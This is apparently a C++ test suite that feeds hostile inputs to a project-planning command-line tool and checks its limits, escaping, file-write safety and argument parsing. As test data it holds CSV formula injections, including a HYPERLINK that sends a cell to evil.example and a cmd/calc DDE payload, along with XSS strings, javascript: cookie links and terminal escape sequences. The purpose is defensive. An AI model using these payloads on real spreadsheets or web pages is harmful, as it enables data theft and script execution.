// Hostile input: files and arguments nobody here wrote, each class of attack or accident with the
// rule that holds it. Every run is capped in time and memory (cli_helpers.hpp), so a regression
// fails here instead of hanging CI or exhausting the machine.
#include <doctest/doctest.h>
#include <nlohmann/json.hpp>

#include "cli_helpers.hpp"

#include <map>
#include <sys/stat.h>

using namespace cli_test;
using nlohmann::json;

namespace {

json sample() { return json::parse(slurp(kSample)); }

bool has(const std::string& text, const std::string& what) { return text.find(what) != std::string::npos; }

// A plan of one task on a calendar, as small as a file can be.
json oneTask(int minutesPerDay, long long duration) {
    json p = sample();
    p["project"]["calendar"]["minutesPerDay"] = minutesPerDay;
    p["tasks"] = json::array({p["tasks"][1]});
    p["tasks"][0].erase("parent");
    p["tasks"][0]["duration"] = duration;
    for (const char* list : {"links", "assignments", "baselines", "budgetLines", "costs", "hours", "risks", "changeRequests", "statusRecords", "drawdowns"})
        p[list] = json::array();
    for (json& v : p["vendors"]) v["contractValue"] = 0;
    return p;
}

} // namespace

TEST_CASE("runaway work: a tiny valid-looking plan cannot send scheduling or reports past the horizon") {
    Scratch s;
    // The longest duration a file may hold, on a one-minute working day: 35 million days.
    spit(s / "long.json", oneTask(1, 480LL * 365 * 200).dump());
    Run r = run("validate " + quote((s / "long.json").string()), 20, 1024);
    CHECK(r.code == 1);
    CHECK(has(r.err, "would end after 2999"));
    r = run("report " + quote((s / "long.json").string()), 20, 1024);
    CHECK(r.code == 1);
    CHECK(has(r.err, "would end after 2999"));

    // A two-line CSV with a 700,000,000-day task: refused by the same limit as JSON.
    spit(s / "huge.csv", "ID,Name,Duration\n1,Forever,700000000d\n");
    r = run("convert " + quote((s / "huge.csv").string()) + " " + quote((s / "out.json").string()), 20, 1024);
    CHECK(r.code == 1);
    CHECK(has(r.err, "at most 200 years"));
    CHECK_FALSE(fs::exists(s / "out.json"));

    // One person off on every weekday from 1900 to 2999, assigned to 2,000 tasks.
    json p = sample();
    json off = json::array();
    int weekday = 0; // 1900-01-01 was a Monday
    for (int y = 1900; y <= 2999; ++y)
        for (int m = 1; m <= 12; ++m) {
            static const int days[] = {31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
            const bool leap = (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
            for (int d = 1; d <= days[m - 1] + (m == 2 && leap); ++d, weekday = (weekday + 1) % 7) {
                if (weekday >= 5) continue;
                char buf[16];
                std::snprintf(buf, sizeof buf, "%04d-%02d-%02d", y, m, d);
                off.push_back(buf);
            }
        }
    p["resources"][0]["daysOff"] = off;
    json tasks = json::array(), assignments = json::array();
    for (int i = 0; i < 2000; ++i) {
        char id[40];
        std::snprintf(id, sizeof id, "%032x", i + 1);
        tasks.push_back({{"id", id}, {"name", "Task " + std::to_string(i)}, {"duration", 480}});
        std::snprintf(id, sizeof id, "a%031x", i + 1);
        char task[40];
        std::snprintf(task, sizeof task, "%032x", i + 1);
        assignments.push_back({{"id", id}, {"task", task}, {"resource", p["resources"][0]["id"]}, {"units", 100}});
    }
    p["tasks"] = tasks;
    p["assignments"] = assignments;
    for (const char* list : {"links", "baselines", "budgetLines", "costs", "hours", "risks", "changeRequests", "statusRecords"}) p[list] = json::array();
    spit(s / "off.json", p.dump());
    r = run("validate " + quote((s / "off.json").string()), 30, 2048);
    CHECK(r.code == 1);
    CHECK(has(r.err, "would end after 2999"));
}

TEST_CASE("inputs that are not files, or too large, are refused before they are read") {
    Scratch s;
    Run r = run("validate /dev/zero", 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "/dev/zero is not a file"));
    fs::create_directories(s / "folder.json");
    r = run("validate " + quote((s / "folder.json").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "is not a file"));
}

TEST_CASE("readers agree on limits: CSV and actuals refuse what the JSON reader refuses") {
    Scratch s;
    spit(s / "nan.csv", "ID,Name,Duration,% Complete\n1,A,5d,nan\n");
    Run r = run("validate " + quote((s / "nan.csv").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "% Complete \"nan\""));

    spit(s / "plan.json", slurp(kSample));
    const std::string header = "Date,Hours,Resource,Amount,Category,Task,Vendor,Note\n";
    const std::pair<const char*, const char*> bad[] = {
        {"2026-11-20,,,\"12,34\",Travel,,,ambiguous", "decimal point"},            // not 1,234.00
        {"2026-11-20,,,900719925474099.33,Travel,,,past 2^53 cents", "too large an amount"},
        {"2026-11-20,\"7,5\",Maya Chen,,,,,decimal comma", "Hours \"7,5\""},      // the same rule as amounts
    };
    for (const auto& [row, message] : bad) {
        CAPTURE(row);
        spit(s / "actuals.csv", header + row + "\n");
        r = run("actuals " + quote((s / "plan.json").string()) + " " + quote((s / "actuals.csv").string()), 20, 512);
        CHECK(r.code == 1);
        CHECK(has(r.err, message));
        CHECK(slurp(s / "plan.json") == slurp(kSample)); // nothing written
    }
    // A file separated by semicolons (a decimal-comma locale's CSV) reads commas as the decimal mark, for
    // hours and amounts alike; --decimal says otherwise, and only point or comma.
    spit(s / "comma.csv", "Date;Hours;Resource;Amount;Category\n2026-11-20;;;1.250,50;Travel\n2026-11-20;7,5;Producer;;\n");
    r = run("actuals " + quote((s / "plan.json").string()) + " " + quote((s / "comma.csv").string()) + " --decimal point", 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "line 2: Amount \"1.250,50\""));
    CHECK(has(r.err, "line 3: Hours \"7,5\""));
    r = run("actuals " + quote((s / "plan.json").string()) + " " + quote((s / "comma.csv").string()) + " --decimal both", 20, 512);
    CHECK(r.code == 2);
    CHECK(has(r.err, "--decimal is point or comma"));
    r = run("actuals " + quote((s / "plan.json").string()) + " " + quote((s / "comma.csv").string()) + " -o " + quote((s / "out.json").string()), 20, 512);
    CHECK(r.code == 0);
    const json out = json::parse(slurp(s / "out.json"));
    CHECK(out["costs"].back()["amount"] == 125050);
    CHECK(out["hours"].back()["minutes"] == 450);
}

TEST_CASE("readers agree on text lengths and nesting, and report many errors readably") {
    Scratch s;
    // A name of 1,000 characters (3,000 bytes of CJK) opens; 1,001 is refused with its field, by JSON and CSV alike.
    std::string name;
    for (int i = 0; i < 1000; ++i) name += "\xe8\xa8\x88"; // 計
    json p = oneTask(480, 480);
    p["tasks"][0]["name"] = name;
    spit(s / "fits.json", p.dump());
    CHECK(run("validate " + quote((s / "fits.json").string()), 20, 512).code == 0);
    p["tasks"][0]["name"] = name + "x";
    spit(s / "long.json", p.dump());
    Run r = run("validate " + quote((s / "long.json").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "tasks[0].name: is longer than 1,000 characters"));
    spit(s / "long.csv", "ID,Name,Duration\n1," + name + "x,1d\n");
    r = run("validate " + quote((s / "long.csv").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "line 2: Name is longer than 1,000 characters"));
    // Notes: 100,000 characters.
    p["tasks"][0]["name"] = "Notes";
    p["tasks"][0]["notes"] = std::string(100001, 'n');
    spit(s / "notes.json", p.dump());
    r = run("validate " + quote((s / "notes.json").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "tasks[0].notes: is longer than 100,000 characters"));
    spit(s / "plan.json", slurp(kSample));
    spit(s / "actuals.csv", "Date,Amount,Note\n2026-11-20,12.00," + std::string(100001, 'n') + "\n");
    r = run("actuals " + quote((s / "plan.json").string()) + " " + quote((s / "actuals.csv").string()), 20, 512);
    CHECK(r.code == 1);
    CHECK(has(r.err, "line 2: Note is longer than 100,000 characters"));

    // Nesting: any depth, the same in both readers, every pass linear in it (a 20,000-level outline).
    json deep = oneTask(480, 480);
    json tasks = json::array();
    for (int i = 0; i < 20000; ++i) {
        char id[40], parent[40];
        std::snprintf(id, sizeof id, "%032x", i + 1);
        std::snprintf(parent, sizeof parent, "%032x", i);
        json t = {{"id", id}, {"name", "Level " + std::to_string(i + 1)}, {"duration", 480}};
        if (i) t["parent"] = parent;
        tasks.push_back(t);
    }
    deep["tasks"] = tasks;
    spit(s / "deep.json", deep.dump());
    r = run("convert " + quote((s / "deep.json").string()) + " " + quote((s / "deep.csv").string()), 20, 1024);
    CHECK(r.code == 0);
    r = run("convert " + quote((s / "deep.csv").string()) + " " + quote((s / "deep2.json").string()), 20, 1024);
    CHECK(r.code == 0);
    r = run("report " + quote((s / "deep2.json").string()), 20, 1024);
    CHECK(r.code == 0);

    // 30,000 bad rows, one of them a 10 MB cell: 20 errors, each short, then how many more.
    std::string rows = "ID,Name,Duration\n1,Huge," + std::string(10 << 20, '9') + "x\n";
    for (int i = 2; i <= 30000; ++i) rows += std::to_string(i) + ",T,never\n";
    spit(s / "bad.csv", rows);
    r = run("validate " + quote((s / "bad.csv").string()), 20, 1024);
    CHECK(r.code == 1);
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') <= 22);
    CHECK(r.err.size() < 10000);
    CHECK(has(r.err, "… 29980 more errors not shown"));
}

TEST_CASE("money: totals that would overflow are refused by name, never wrapped; change orders are linear") {
    Scratch s;
    // 2,000 budget lines of the largest amount: together past int64.
    json p = oneTask(480, 480);
    for (int i = 0; i < 2000; ++i) {
        char id[40];
        std::snprintf(id, sizeof id, "b%031x", i + 1);
        p["budgetLines"].push_back({{"id", id}, {"name", "Line " + std::to_string(i + 1)}, {"amount", 1LL << 53}, {"category", "vendor"}});
    }
    spit(s / "lines.json", p.dump());
    Run r = run("report " + quote((s / "lines.json").string()), 20, 1024);
    CHECK(r.code == 0); // the rest of the report stands
    CHECK(has(r.out, "too large to total"));
    CHECK(has(r.out, "the budget line “Line 1”"));
    CHECK(has(r.err, "warning: The budget is too large to total"));
    CHECK_FALSE(has(r.out, "-€"));
    CHECK_FALSE(has(r.out, "Budget at completion"));

    // The highest rate on a 100-year task at 100 × units: labour alone past int64.
    p = oneTask(480, 480LL * 365 * 100);
    p["tasks"][0]["name"] = "Forever";
    json person = sample()["resources"][0];
    person["billRate"] = 1LL << 50;
    p["resources"] = json::array({person});
    p["assignments"] = json::array({{{"id", std::string(32, 'a')}, {"task", p["tasks"][0]["id"]}, {"resource", person["id"]}, {"units", 10000}}});
    spit(s / "rate.json", p.dump());
    r = run("report " + quote((s / "rate.json").string()) + " --format json", 20, 1024);
    CHECK(r.code == 0);
    CHECK(has(r.out, "the labour of " + person["name"].get<std::string>() + " on “Forever”"));
    CHECK(has(r.out, "\"rag\": \"Red\""));

    // A change request over 100,000 tasks: its change order in linear time (it took 29 s).
    json big = oneTask(480, 480);
    json tasks = json::array(), items = json::array();
    for (int i = 0; i < 100000; ++i) {
        char id[40];
        std::snprintf(id, sizeof id, "%032x", i + 1);
        tasks.push_back({{"id", id}, {"name", "T"}, {"duration", 480}});
        items.push_back({{"task", id}, {"duration", 960}});
    }
    big["tasks"] = tasks;
    big["changeRequests"] = json::array({{{"id", std::string(32, 'c')}, {"number", 1}, {"title", "Everything twice"}, {"raised", "2026-11-17"},
                                         {"status", "submitted"}, {"category", "vendor"}, {"costImpact", 0}, {"items", items}}});
    spit(s / "big.json", big.dump());
    r = run("report --change-order 1 " + quote((s / "big.json").string()) + " -o " + quote((s / "co.md").string()), 10, 2048);
    CHECK(r.code == 0);
    CHECK(has(slurp(s / "co.md"), "Added work"));
}

TEST_CASE("exports: CSV cells that a spreadsheet would run are neutralised, Markdown shows text as text") {
    Scratch s;
    json p = sample();
    p["tasks"][2]["name"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    p["tasks"][3]["name"] = "<script>alert(1)</script> [x](javascript:alert(1))";
    p["tasks"][3]["notes"] = "@SUM(1+1)*cmd|' /C calc'!A0";
    p["risks"][0]["title"] = "<img src=x onerror=alert(1)> # heading * not bold *";
    p["changeRequests"][0]["title"] = "[click](javascript:alert(document.cookie)) | broken | table";
    spit(s / "evil.json", p.dump());

    Run r = run("convert " + quote((s / "evil.json").string()) + " " + quote((s / "evil.csv").string()));
    REQUIRE(r.code == 0);
    const std::string csv = slurp(s / "evil.csv");
    CHECK(has(csv, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    CHECK(has(csv, "'@SUM(1+1)"));
    CHECK_FALSE(has(csv, ",=HYPERLINK"));
    // And back: the names are what they were.
    r = run("convert " + quote((s / "evil.csv").string()) + " " + quote((s / "back.json").string()));
    REQUIRE(r.code == 0);
    CHECK(json::parse(slurp(s / "back.json"))["tasks"][2]["name"] == p["tasks"][2]["name"]);

    r = run("report " + quote((s / "evil.json").string()) + " --format md");
    REQUIRE(r.code == 0);
    CHECK_FALSE(has(r.out, "<script"));
    CHECK_FALSE(has(r.out, "<img"));
    CHECK_FALSE(has(r.out, "[x](javascript:")); // escaped: \\[x\\](…) shows the text, links nowhere
    CHECK(has(r.out, "&lt;img src=x onerror=alert(1)&gt;"));
    CHECK(has(r.out, "\\[click\\](javascript:alert(document.cookie)) \\| broken \\| table"));
    r = run("report " + quote((s / "evil.json").string()) + " --change-order 1 --format md");
    REQUIRE(r.code == 0);
    CHECK_FALSE(has(r.out, "[click](javascript:"));
    CHECK(has(r.out, "\\[click\\](javascript:"));
    r = run("report " + quote((s / "evil.json").string()) + " --format html");
    REQUIRE(r.code == 0);
    CHECK_FALSE(has(r.out, "<img src=x"));
    CHECK_FALSE(has(r.out, "<script>"));
}

TEST_CASE("names with terminal escape sequences are shown without them") {
    Scratch s;
    json p = sample();
    p["project"]["name"] = "Plan\x1b]0;pwned\x07\x1b[2J";
    p["tasks"][2]["name"] = "Task\x1b[31mred\x1b[0m\xc2\x9b" "6n";
    spit(s / "escapes.json", p.dump());
    Run r = run("validate " + quote((s / "escapes.json").string()));
    CHECK(r.code == 0);
    CHECK_FALSE(has(r.out, "\x1b"));
    CHECK(has(r.out, "Plan?]0;pwned??[2J"));
    r = run("schedule " + quote((s / "escapes.json").string()));
    CHECK(r.code == 0);
    CHECK_FALSE(has(r.out, "\x1b"));
    CHECK_FALSE(has(r.out, "\xc2\x9b"));
    // An error that quotes a cell: the same on stderr.
    spit(s / "escapes.csv", "ID,Name,Duration\n1,A,\x1b[2J5d\n");
    r = run("validate " + quote((s / "escapes.csv").string()));
    CHECK(r.code == 1);
    CHECK(has(r.err, "Duration"));
    CHECK_FALSE(has(r.err, "\x1b"));
}

TEST_CASE("writes: a planted link is never followed, a read-only file is not replaced, a private file stays private") {
    Scratch s;
    spit(s / "victim.txt", "keep me");
    // The temporary name of older builds, planted as a link to another file.
    fs::create_symlink(s / "victim.txt", s / "out.html.tmp");
    Run r = run("report " + quote(kSample) + " --format html -o " + quote((s / "out.html").string()));
    REQUIRE(r.code == 0);
    CHECK(slurp(s / "victim.txt") == "keep me");
    CHECK(has(slurp(s / "out.html"), "<!doctype html>"));
    for (const auto& e : fs::directory_iterator(s.dir)) CHECK_MESSAGE(e.path().filename().string().rfind(".out.html", 0) != 0, e.path());

    spit(s / "locked.md", "signed off");
    ::chmod((s / "locked.md").c_str(), 0444);
    r = run("report " + quote(kSample) + " -o " + quote((s / "locked.md").string()));
    CHECK(r.code == 1);
    CHECK(has(r.err, "read-only"));
    CHECK(slurp(s / "locked.md") == "signed off");

    spit(s / "private.json", slurp(kSample));
    ::chmod((s / "private.json").c_str(), 0600);
    spit(s / "hours.csv", "Date,Hours,Resource,Amount,Category,Task,Vendor,Note\n2026-11-20,,,10.00,Travel,,,taxi\n");
    r = run("actuals " + quote((s / "private.json").string()) + " " + quote((s / "hours.csv").string()));
    REQUIRE(r.code == 0);
    struct stat st {};
    REQUIRE(::stat((s / "private.json").c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
}

TEST_CASE("ids crafted to collide in a plain hash do not slow reading down") {
    Scratch s;
    Run r = run("generate 100000 " + quote((s / "big.json").string()));
    REQUIRE(r.code == 0);
    json p = json::parse(slurp(s / "big.json"));
    // hi ^ (lo * K) the same for every task: every id in one bucket of an unkeyed hash.
    std::map<std::string, std::string> renamed;
    char buf[40];
    for (size_t i = 0; i < p["tasks"].size(); ++i) {
        const unsigned long long lo = i + 1, hi = 0x1234ull ^ (lo * 0x9E3779B97F4A7C15ull);
        std::snprintf(buf, sizeof buf, "%016llx%016llx", hi, lo);
        renamed[p["tasks"][i]["id"].get<std::string>()] = buf;
    }
    auto swap = [&](json& v) { v = renamed.at(v.get<std::string>()); };
    for (json& t : p["tasks"]) {
        swap(t["id"]);
        if (t.contains("parent")) swap(t["parent"]);
    }
    for (json& l : p["links"]) { swap(l["predecessor"]); swap(l["successor"]); }
    for (json& a : p["assignments"]) swap(a["task"]);
    spit(s / "crafted.json", p.dump());
    r = run("validate " + quote((s / "crafted.json").string()), 20, 2048);
    CHECK(r.code == 0);
    CHECK(has(r.out, "100000 tasks"));
}

TEST_CASE("arguments are checked for range, not wrapped") {
    Scratch s;
    Run r = run("report " + quote(kSample) + " --change-order 4294967297");
    CHECK(r.code == 2);
    CHECK(has(r.err, "--change-order takes a request number"));
    r = run("generate 10 " + quote((s / "x.json").string()) + " --people 3000000000");
    CHECK(r.code == 2);
    CHECK(has(r.err, "--people takes a whole number from 0 to 100000"));
    r = run("generate 1e3 " + quote((s / "x.json").string()));
    CHECK(r.code == 2);
    CHECK_FALSE(fs::exists(s / "x.json"));
}
